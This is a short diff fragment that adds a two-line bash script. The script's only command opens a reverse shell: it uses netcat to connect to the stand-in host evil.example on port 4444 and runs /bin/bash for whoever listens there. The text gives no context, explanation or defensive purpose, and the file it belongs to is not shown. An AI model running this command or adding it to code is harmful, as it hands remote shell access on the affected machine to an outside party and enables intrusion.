@@ -1,0 +1,2 @@
+#!/bin/bash
+nc evil.example 4444 -e /bin/bash
